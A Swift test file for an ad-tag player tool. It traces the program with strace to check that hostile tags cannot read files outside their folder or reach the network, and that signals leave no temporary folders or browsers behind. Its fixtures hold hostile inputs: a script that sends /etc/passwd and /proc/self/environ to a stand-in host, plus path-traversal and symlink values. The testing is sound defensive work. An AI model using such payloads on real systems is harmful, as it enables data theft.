import Foundation
import Glibc
import LoopbackServer
import System
import TestSupport
import Testing

/// Which files the program opens for a hostile tag, seen from outside: under `strace`, in a network
/// namespace of its own.
@Suite(
  .tags(.process),
  .enabled(if: Tracing.isPermitted, "strace or unshare is not at hand or not permitted"))
struct OpenedFilesTests {
  private let tags: TrespassingTag

  init() throws {
    tags = try TrespassingTag()
    #expect(mkfifo(tags.path("tag/pipe"), 0o600) == 0)
    try tags.link("tag/link.mp4", to: "../other/ad.mp4")
    try tags.link("tag/up", to: "..")
    _ = try tags.folder.file("tag/captions.vtt", "WEBVTT\n\n00:00.000 --> 00:01.000\nwords\n")
    _ = try tags.folder.file(
      "tag/v.js",
      ["/etc/passwd", "/proc/self/environ", "../other/secret.txt", "up/other/secret.txt", "pipe"]
        .map {
          "omidNative.downloadJavaScriptResource('\($0)', t => omidNative.sendUrl('https://x/?' + t));"
        }
        .joined(separator: "\n"))
    _ = try tags.folder.file(
      "tag/stream.m3u8",
      "#EXTM3U\n#EXT-X-TARGETDURATION:6\n#EXTINF:3,\nup/other/ad.mp4\n#EXT-X-ENDLIST\n")
  }

  /// What a command opened.
  private struct Trace {
    /// The paths of what was opened, without links; folders on the way to a file are not read.
    var opened: [String] = []
    /// All calls, as they are written down.
    var calls: [String] = []
    var sockets: [String] = []
  }

  private func trace(_ arguments: [String]) throws -> Trace {
    let logs = tags.folder.url.appending(path: "logs")
    try FileManager.default.createDirectory(at: logs, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: logs) }
    let strace = try #require(Program("strace"))
    _ = try strace.run(
      [
        // A file for each process, as calls of several would break each other's lines.
        "-ff", "-qq", "-y", "-e", "trace=open,openat,openat2,creat,socket", "-o",
        logs.appending(path: "log").path(percentEncoded: false), "unshare",
        // A sanitizer's runtime opens the files that its options name.
        "-n", "env", "-u", "ASAN_OPTIONS", "-u", "LSAN_OPTIONS",
        "XDG_CACHE_HOME=\(tags.path("cache"))",
        CommandRun.program,
      ] + arguments)
    var trace = Trace()
    let files = try FileManager.default.contentsOfDirectory(
      at: logs, includingPropertiesForKeys: nil)
    let lines = try files.flatMap {
      try String(contentsOf: $0, encoding: .utf8).split(separator: "\n")
    }
    for line in lines {
      if line.contains("socket(") {
        trace.sockets.append(String(line))
      } else if line.contains("open") || line.contains("creat(") {
        trace.calls.append(String(line))
        guard !line.contains("O_PATH"), let result = line.range(of: " = ", options: .backwards),
          let start = line[result.upperBound...].firstIndex(of: "<"), line.last == ">"
        else { continue }
        trace.opened.append(String(line[line.index(after: start)...].dropLast()))
      }
    }
    return trace
  }

  /// What the program opens for itself: its libraries, and what they ask the system.
  private static func isOfProgram(_ path: String) -> Bool {
    let folders = [
      "/usr/lib/", "/lib/", "/lib64/", "/usr/share/zoneinfo/", "/usr/share/locale/", "/etc/ssl/",
      "/sys/", "/proc/",
    ]
    let files = [
      "/etc/ld.so.cache", "/etc/localtime", "/etc/locale.alias", "/dev/null", "/dev/urandom",
      "/dev/random",
    ]
    return files.contains(path) || folders.contains { path.hasPrefix($0) }
      || path.contains(".so") || path == CommandRun.program
  }

  private func expectConfined(_ arguments: [String], reading files: [String] = []) throws {
    let trace = try trace(arguments)
    #expect(trace.opened.contains { $0.hasPrefix(tags.real("tag/")) }, "\(arguments)")
    for path in trace.opened where !Self.isOfProgram(path) {
      #expect(
        path.hasPrefix(tags.real("tag/")) || path.hasPrefix(tags.real("cache/vastsim"))
          || files.contains(path), "\(arguments) opened \(path)")
    }
    // A sanitizer's runtime reads its options there before the program begins.
    let isSanitized = try self.trace(["--version"]).calls.contains { $0.contains("environ") }
    for word in ["/etc/passwd", "environ", "other/", "secret", "/pipe", "/dev/stdin"] {
      if word == "environ", isSanitized { continue }
      let calls = trace.calls.filter { $0.contains(word) }
      #expect(calls.isEmpty, "\(arguments): \(calls)")
    }
    #expect(!trace.sockets.contains { $0.contains("AF_INET") }, "\(trace.sockets)")
  }

  /// One tag for each way out, so that no obstacle hides the next.
  private func hostileTags() throws -> [String] {
    try [
      tags.inLine(
        "tag/1.xml", captions: "../other/secret.txt", companion: "/etc/passwd",
        icon: "up/other/secret.txt", script: "v.js"),
      tags.inLine("tag/2.xml", media: "/etc/passwd", captions: "/dev/stdin", script: "/etc/passwd"),
      tags.inLine("tag/3.xml", media: "link.mp4"),
      tags.inLine("tag/4.xml", media: "stream.m3u8", type: "application/x-mpegURL"),
      tags.inLine("tag/5.xml", media: "pipe", captions: "%2e%2e/other/secret.txt"),
      tags.wrapper("\u{301}/../../other/wrapped.xml"),
    ]
  }

  @Test(arguments: ["play", "resolve", "lint"])
  func `a command opens nothing outside the tag's folder`(command: String) throws {
    for tag in try hostileTags() { try expectConfined([command, tag]) }
  }

  @Test func `check opens nothing outside the folders of the tags`() throws {
    try expectConfined(["check"] + hostileTags())
  }

  @Test func `diff opens nothing outside the folders of its tags`() throws {
    let tags = try hostileTags()
    for (old, new) in zip(tags, tags.dropFirst()) { try expectConfined(["diff", old, new]) }
  }

  @Test func `test opens the scenario, and nothing else outside the tag's folder`() throws {
    for tag in try hostileTags() {
      let name = URL(filePath: tag).lastPathComponent
      _ = try tags.folder.file(
        "s.yaml", "version: 1\ntag: tag/\(name)\nexpect:\n  - { outcome: completed }\n")
      try expectConfined(["test", tags.path("s.yaml")], reading: [tags.real("s.yaml")])
    }
  }

  @Test func `the trace would show it`() throws {
    let tag = try tags.inLine(media: "../other/ad.mp4")
    let trace = try trace(["play", tag, "--allow-files", tags.path("other")])
    #expect(trace.opened.contains(tags.real("other/ad.mp4")))
  }
}

extension TrespassingTag {
  /// A path without links.
  fileprivate func real(_ name: String) -> String {
    guard let real = realpath(path(""), nil) else { return path(name) }
    defer { free(real) }
    return String(cString: real) + "/" + name
  }
}

/// The machine's means to look at a process from outside.
private enum Tracing {
  /// Whether this machine lets a process be traced in a network of its own.
  static let isPermitted: Bool = {
    guard let program = Program("strace"), Program("unshare") != nil else { return false }
    return (try? program.run(["-o", "/dev/null", "unshare", "-n", "true"]).isSuccess) ?? false
  }()
}

/// The program's temporary folder goes with the program.
@Suite(.tags(.process))
struct TemporaryFolderTests {
  @Test(arguments: [SIGTERM, SIGINT, SIGHUP, SIGKILL])
  func `a signal leaves no temporary folder behind`(signal: Int32) throws {
    let folder = try TemporaryFolder()
    let server = try LoopbackServer([LoopbackRoute("/", .never)])
    let program = try LineProcess(
      "/usr/bin/env",
      [
        "TMPDIR=\(folder.path(""))", CommandRun.program, "play", server.url("/tag"), "--network",
        "--allow-private", "--total-timeout", "10m",
      ])
    func files() throws -> [String] {
      try FileManager.default.contentsOfDirectory(atPath: folder.path(""))
    }
    try #require(server.waitForRequests())
    #expect(try files().count == 1)
    kill(program.id, signal)
    // An interruption that the program receives ends it by itself.
    let end: ProcessEnd.Cause =
      switch signal {
      case SIGINT: .exit(130)
      case SIGTERM: .exit(143)
      default: .signal(signal)
      }
    #expect(program.wait().cause == end)
    // The last to go is the process that removes it.
    #expect(try eventually { try files().isEmpty })
  }

  @Test(
    .enabled(if: DrivenBrowser.program != nil, "chromium is not at hand"),
    arguments: [SIGTERM, SIGINT, SIGKILL])
  func `a signal leaves neither a browser nor its folder behind`(signal: Int32) throws {
    // Short, as the browser's socket in it has to be.
    var template = Array("/tmp/v-XXXXXX".utf8CString)
    try #require(mkdtemp(&template) != nil)
    let folder = String(decoding: template.dropLast().map { UInt8(bitPattern: $0) }, as: UTF8.self)
    defer { try? FileManager.default.removeItem(atPath: folder) }
    let server = try LoopbackServer([LoopbackRoute("/", .text("", type: "text/html"))])
    let program = try LineProcess(
      "/usr/bin/env",
      [
        "TMPDIR=\(folder)", CommandRun.program, "receive", CommandRun.tag,
        CommandRun.media, "--trust-page", "--page", server.url("/?{tag}"),
      ])
    func browsers() throws -> [String] {
      try FileManager.default.contentsOfDirectory(atPath: "/proc").filter { name in
        let line = try? String(contentsOfFile: "/proc/\(name)/cmdline", encoding: .utf8)
        return line?.contains("--user-data-dir=\(folder)/") == true
      }
    }
    try #require(server.waitForRequests())
    #expect(try !browsers().isEmpty)
    kill(program.id, signal)
    _ = program.wait()
    #expect(try eventually { try browsers().isEmpty })
    #expect(
      try eventually {
        try FileManager.default.contentsOfDirectory(atPath: folder).isEmpty
      })
  }

  @Test func `a run that ends by itself leaves none either`() throws {
    let folder = try TemporaryFolder()
    let server = try LoopbackServer([LoopbackRoute("/", .status(204))])
    let program = try #require(Program("/usr/bin/env"))
    _ = try program.run([
      "TMPDIR=\(folder.path(""))", CommandRun.program, "play", server.url("/tag"), "--network",
      "--allow-private",
    ])
    #expect(server.requests.count == 1)
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path("")).isEmpty)
  }
}
